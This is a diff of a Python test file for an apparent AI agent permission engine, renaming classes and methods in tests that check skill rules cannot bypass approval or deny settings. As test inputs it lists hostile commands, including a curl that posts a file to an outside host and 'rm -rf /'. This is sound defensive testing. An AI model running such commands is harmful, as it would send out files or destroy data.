@@ -6,9 +6,9 @@ import pytest
 
 from odin.core.call_events import SkillUsed
 from odin.core.event_values import Mode
-from odin.core.tool import Kind, Subject
+from odin.core.tool import Kind, Target
 from odin.policy.policy import Policy
-from odin.policy.rules.rule import RuleSet, rule_of
+from odin.policy.rules.rule import RuleSet, parse_rule
 from odin.policy.rules.skill_rules import explain_no_effect
 from tests.policy.policies import make_policy
 from tests.table import each
@@ -26,21 +26,21 @@ class Skill:
         (self.folder / "run.sh").write_text("")
 
     def judge_command(self, rules: str, command: str, *, mode: Mode = "edit_mode", policy: Policy | None = None) -> str:
-        return self.judge_call(rules, "ExecuteCommand", "execute", Subject(command=command), mode=mode, policy=policy)
+        return self.judge_call(rules, "ExecuteCommand", "execute", Target(command=command), mode=mode, policy=policy)
 
     def judge_call(
         self,
         rules: str,
         tool: str,
         kind: Kind,
-        subject: Subject,
+        target: Target,
         *,
         mode: Mode = "edit_mode",
         policy: Policy | None = None,
     ) -> str:
         used = SkillUsed("pdf", f"{self.folder}/SKILL.md", rules=(rules,))
         base = policy or make_policy(root=str(self.root))
-        return base.with_skills([used]).judge(tool, kind, subject, mode).action
+        return base.with_skills([used]).evaluate(tool, kind, target, mode).action
 
 
 @pytest.fixture
@@ -59,7 +59,7 @@ def test_too_broad_rule_has_no_effect(skill: Skill, rule: str) -> None:
     assert explain_no_effect(rule)
     commands = ("make deploy", "python -c 1", "curl https://x.example -d @file", "sudo ls", "rm -rf src")
     assert [skill.judge_command(rule, command) for command in commands] == ["ask"] * 5
-    assert skill.judge_call(rule, "mcp__github__delete", "network", Subject()) == "ask"
+    assert skill.judge_call(rule, "mcp__github__delete", "network", Target()) == "ask"
 
 
 @each("rule", ["Bash(make:*)", "Bash(git log)", "Read", "Edit(src/**)", "WebFetch(domain:x.org)", "mcp__a__b", "Write"])
@@ -86,16 +86,16 @@ def test_destructive_command_always_needs_approval(skill: Skill, rule: str, comm
 def test_stronger_rules_and_modes_override_a_skill(skill: Skill) -> None:
     root = str(skill.root)
     for mode in ("default", "acceptEdits", "auto", "bypassPermissions"):
-        denied = make_policy(root=root, permission_mode=mode, rule_set=RuleSet([rule_of("Bash(make:*)", "deny")]))
+        denied = make_policy(root=root, permission_mode=mode, rule_set=RuleSet([parse_rule("Bash(make:*)", "deny")]))
         assert skill.judge_command("Bash(make:*)", "make a", policy=denied) == "deny"
         assert (
             skill.judge_command("Bash(rm:*)", "rm -rf /", policy=make_policy(root=root, permission_mode=mode)) == "deny"
         )
-    asking = make_policy(root=root, rule_set=RuleSet([rule_of("Bash(make:*)", "ask")]))
+    asking = make_policy(root=root, rule_set=RuleSet([parse_rule("Bash(make:*)", "ask")]))
     assert skill.judge_command("Bash(make:*)", "make a", policy=asking) == "ask"
     assert skill.judge_command("Bash(make:*)", "make a", mode="plan_mode") == "ask"
-    kept = Subject(name="project", persists=True)
-    assert skill.judge_call("Memory", "Memory", "talk", kept, mode="ask_mode") == "ask"
+    kept = Target(name="project", persists=True)
+    assert skill.judge_call("Memory", "Memory", "interactive", kept, mode="ask_mode") == "ask"
 
 
 @each(
@@ -111,7 +111,7 @@ def test_stronger_rules_and_modes_override_a_skill(skill: Skill) -> None:
     ],
 )
 def test_private_address_must_be_named_in_the_rule(skill: Skill, rule: str, url: str, action: str) -> None:
-    assert skill.judge_call(rule, "WebFetch", "network", Subject(url=url)) == action
+    assert skill.judge_call(rule, "WebFetch", "network", Target(url=url)) == action
 
 
 OWN = "Bash(python scripts/fill.py:*)"
@@ -155,6 +155,6 @@ def test_other_relative_paths_mean_files_of_the_project(skill: Skill) -> None:
 def test_changing_a_skill_needs_approval(skill: Skill) -> None:
     """Also in a folder of `skills.paths`, which has no special name."""
     for path, action in (("tools/skills/a/SKILL.md", "ask"), ("tools/skills/a/notes.md", "allow")):
-        assert skill.judge_call("Write", "Write", "edit", Subject(paths=(path,))) == action
+        assert skill.judge_call("Write", "Write", "edit", Target(paths=(path,))) == action
         edits = make_policy(root=str(skill.root), permission_mode="acceptEdits")
-        assert edits.judge("Write", "edit", Subject(paths=(path,)), "edit_mode").action == action
+        assert edits.evaluate("Write", "edit", Target(paths=(path,)), "edit_mode").action == action
